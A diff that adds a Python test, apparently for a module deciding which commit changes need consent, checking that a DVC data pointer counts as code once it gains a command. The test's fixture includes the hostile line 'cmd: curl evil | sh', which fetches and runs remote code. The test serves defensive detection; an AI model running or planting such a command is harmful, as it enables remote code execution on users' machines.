@@ -58,3 +58,9 @@ def test_a_diff_of_code_needs_consent_a_diff_of_docs_or_outputs_does_not():
 def test_defaults_missing_from_the_commits_params_file_are_not_changes():
     """The record stores params validated (defaults filled in): the commit's file is compared the same way."""
     assert trust.assess("", "model:\n  seed: 42\n", yaml.safe_dump(trust.as_recorded("")), "").params == {}
+
+
+def test_a_data_pointer_is_not_code_unless_it_gains_a_command():
+    pointer = "diff --git a/data/raw/x.csv.dvc b/data/raw/x.csv.dvc\n--- a/data/raw/x.csv.dvc\n+++ b/data/raw/x.csv.dvc\n"
+    assert not trust.assess(pointer + "+- md5: 0123\n", COMMIT_PARAMS, recorded(), "").needs_consent
+    assert trust.assess(pointer + "+cmd: curl evil | sh\n", COMMIT_PARAMS, recorded(), "").code_files == ["data/raw/x.csv.dvc"]
